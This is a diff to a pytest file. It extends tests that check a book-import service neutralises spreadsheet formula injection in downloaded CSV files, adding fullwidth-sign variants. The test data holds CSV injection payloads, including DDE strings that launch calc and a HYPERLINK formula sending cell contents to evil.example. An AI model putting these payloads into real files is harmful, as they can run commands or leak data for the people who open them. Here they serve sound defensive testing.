@@ -19,6 +19,9 @@ AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
 MINUS = "-2+3+cmd|' /C calc'!A0"
 TAB_LED = "\t=1+1"
 CR_LED = "\r=1+1"
+#: Fullwidth signs (＝ ＋ － ＠), as East Asian input methods type them.
+FULLWIDTH = '\uff1dHYPERLINK("https://evil.example/?leak="&A1,"Click here")'
+FULLWIDTH_SIGNS = ("\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff0d2+3", "\uff20SUM(1+1)")
 
 
 @pytest.mark.parametrize(
@@ -30,6 +33,7 @@ CR_LED = "\r=1+1"
         (MINUS, "'" + MINUS),
         (TAB_LED, "'" + TAB_LED),
         (CR_LED, "'" + CR_LED),
+        *((sign, "'" + sign) for sign in FULLWIDTH_SIGNS),
         ("-2", "'-2"),  # OWASP: numbers too
         (-2, "'-2"),
         ('="9780306406157"', '\'="9780306406157"'),  # Goodreads' own ISBN quoting is a formula
@@ -70,6 +74,7 @@ def test_failed_rows_download_neutralises_formulas_from_the_uploaded_file(client
     hostile = [""] * len(header)
     hostile[0], hostile[2], hostile[9], hostile[10] = "1", HYPERLINK, AT_SUM, MINUS
     hostile[19], hostile[20], hostile[21] = DDE, TAB_LED, CR_LED
+    hostile[4] = FULLWIDTH  # Additional Authors
     ordinary = [""] * len(header)
     ordinary[0], ordinary[2], ordinary[19] = "2", "Ordinary Author", "Good; 3 - 2 = 1"
     upload = io.StringIO()
@@ -96,8 +101,11 @@ def test_failed_rows_download_neutralises_formulas_from_the_uploaded_file(client
     assert cells["My Review"] == "'" + DDE
     assert cells["Spoiler"] == "'" + TAB_LED
     assert cells["Private Notes"] == "'" + CR_LED
+    assert cells["Additional Authors"] == "'" + FULLWIDTH
     assert not any(
-        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+        cell.startswith(("=", "+", "-", "@", "\t", "\r", *"\uff1d\uff0b\uff0d\uff20"))
+        for row in rows
+        for cell in row
     )
     ordinary_cells = dict(zip(rows[0], rows[2], strict=True))
     assert ordinary_cells["Author"] == "Ordinary Author"
